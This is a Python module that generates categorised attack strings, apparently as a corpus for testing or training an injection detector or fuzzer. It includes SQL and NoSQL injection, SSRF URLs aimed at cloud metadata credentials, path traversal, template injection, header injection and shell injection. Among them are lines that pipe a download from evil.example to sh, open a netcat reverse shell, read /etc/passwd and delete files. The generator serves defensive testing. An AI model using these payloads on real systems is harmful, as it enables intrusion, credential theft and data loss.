"""Families of attacks that follow from a grammar rather than from lists."""

import random

OPERATORS = """
    $ne $gt $gte $lt $lte $eq $in $nin $regex $where $exists
    $or $and $not $nor $expr $function $elemMatch $jsonSchema $all
""".split()

COMMANDS = "id whoami ls pwd uname env ps netstat ifconfig hostname".split()
COMMANDS += [
    "cat /etc/passwd",
    "ls -la /",
    "uname -a",
    "cat /etc/hosts",
    "sleep 5",
    "ping -c 3 10.0.0.1",
    "rm -rf /tmp/x",
]
HEADERS = "Set-Cookie: a=b|Location: https://evil.example|X-Injected: 1".split("|")
HEADERS += "Content-Length: 0|HTTP/1.1 200 OK|Set-Cookie:sid=1".split("|")
SHELL_FORMS = ["; {}", "| {}", "&& {}", "|| {}", "$({})", "`{}`", ";{};", "\n{}", "& {} &", "x;{}", "127.0.0.1; {}", "|{}", "a`{}`b"]  # fmt: skip


def thin_families(r: random.Random) -> list[tuple[str, bytes]]:
    """(category, value) of shapes that lists are thin in."""
    out: list[tuple[str, bytes]] = []
    for operator in OPERATORS:
        out += [("nosql", operator.encode())] * 6
        for field in ("user", "username", "password", "q", "id", "email", "filter"):
            out += [
                ("nosql", f"{field}[{operator}]".encode()),
                ("nosql", f'{{"{field}": {{"{operator}": {r.choice(["null", "1", "true", chr(34) * 2])}}}}}'.encode()),
            ]
        out.append(("nosql", f'{{"{operator}":{r.choice(["null", "1", "true"])}}}'.encode()))
    for _ in range(400):
        n, m = r.randint(0, 9999), r.randint(0, 99)
        quote = r.choice(["'", '"', "", "')", "'))", "`"])
        end = r.choice(["", " --", "-- -", "#", ";--", " /*", f" and {quote}{m}{quote}={quote}{m}"])
        same = r.choice(
            [
                f"{n}={n}",
                f"{n} = {n}",
                f"{quote[:1]}{m}{quote[:1]}={quote[:1]}{m}",
                f"{n}>{m}",
                f"{m} like {m}",
                f"not {m}={n}",
                "true",
            ]
        )
        out.append(
            (
                "sqli",
                f"{r.choice(['', str(n), '-1', 'x', 'admin'])}{quote} {r.choice(['or', 'and', 'OR', '||', '&&', 'xor'])} {same}{end}".encode(),
            )
        )
        verb = r.choice(
            [
                "DROP TABLE users",
                f"drop table t{m}",
                "DELETE FROM orders",
                "INSERT INTO users VALUES (1,'a')",
                "UPDATE users SET role='admin'",
                "EXEC xp_cmdshell('dir')",
                "SHUTDOWN",
                f"WAITFOR DELAY '0:0:{m}'",
                f"SELECT pg_sleep({m})",
                "TRUNCATE TABLE log",
            ]
        )
        out.append(
            (
                "sqli",
                f"{r.choice([str(n), 'x', '', 'abc'])}{quote}; {verb}{r.choice(['', ';', '--', ' --', ';--', '#'])}".encode(),
            )
        )
        out.append(
            (
                "sqli",
                f"{r.choice(['admin', 'root', 'x', 'user', str(n), ''])}{r.choice([chr(39), chr(34), chr(39) + ')'])}{r.choice([' ', ''])}{r.choice(['--', '-- ', '#', '/*', '-- -', ';--'])}".encode(),
            )
        )
        host = r.choice(
            [
                "169.254.169.254",
                "127.0.0.1",
                "localhost",
                "[::1]",
                "0.0.0.0",
                "metadata.google.internal",
                "2130706433",
                "0x7f000001",
                "[::ffff:169.254.169.254]",
                "127.1",
                f"10.{m}.{m}.1",
                f"192.168.{m}.{m}",
            ]
        )
        tail = r.choice(
            [
                "",
                f":{n}",
                "/latest/meta-data/",
                "/latest/meta-data/iam/security-credentials/",
                "/admin",
                "/server-status",
                "/computeMetadata/v1/",
            ]
        )
        if not host.startswith(("10.", "192.")) or tail:
            out.append(("ssrf", f"{r.choice(['http', 'http', 'https', 'gopher', 'dict'])}://{host}{tail}".encode()))
        command = r.choice(
            [
                "cat /etc/passwd",
                "id",
                "ls -la",
                "whoami",
                "uname -a",
                f"sleep {m}",
                "curl http://evil.example/x|sh",
                "wget http://evil.example/x",
                "nc -e /bin/sh evil.example 4444",
                "/bin/cat /etc/hosts",
                f"ping -c {m} 127.0.0.1",
                "/???/c?t /???/p??s??",
                "c''at /et''c/pa''sswd",
                "c\\at /etc/passwd",
                "type C:\\windows\\win.ini",
            ]
        )
        form = r.choice(SHELL_FORMS)
        chain = r.choice(["; ", " && ", " | ", " || ", ";", "|"]).join(
            r.choice(COMMANDS) for _ in range(r.randint(1, 2))
        )
        out.append(
            (
                "rce",
                (
                    r.choice(["| ", "; ", "&& ", "|", ";", "`", "$("]) + chain + r.choice(["", "", ";", " #", " &"])
                ).encode(),
            )
        )
        out.append(("rce", form.format(command).encode()))
        name = r.choice(HEADERS)
        out.append(
            (
                "header-injection",
                (r.choice(["", "x", "en", f"{n}"]) + r.choice(["\r\n", "\n", "\r\n\r\n"]) + name).encode(),
            )
        )
        deep = r.randint(2, 9)
        out.append(
            (
                "path-traversal",
                (
                    r.choice(["", "/", "file=", "img/", "C:\\"])
                    + r.choice(["../", "..\\", "....//", "..;/", "/.."]) * deep
                    + r.choice(
                        [
                            "etc/passwd",
                            "etc/shadow",
                            "windows/win.ini",
                            "app/config.yml",
                            ".env",
                            "",
                            "var/log/auth.log",
                        ]
                    )
                ).encode(),
            )
        )
        engine = r.choice(
            ["{{{}}}", "{{{{{}}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "*{{{}}}", "{{% print({}) %}}", "@({})"]
        )
        inner = r.choice(
            [
                f"{m}*{m}",
                f"{n}*{m}",
                "config",
                "self.__init__.__globals__",
                "''.__class__.__mro__[1].__subclasses__()",
                "T(java.lang.Runtime).getRuntime().exec('id')",
                "request.application.__globals__",
                f"{m}*'{m}'",
            ]
        )
        if engine != "{{{}}}" or "_" in inner:
            out.append(("ssti", engine.format(inner).encode()))
    return out
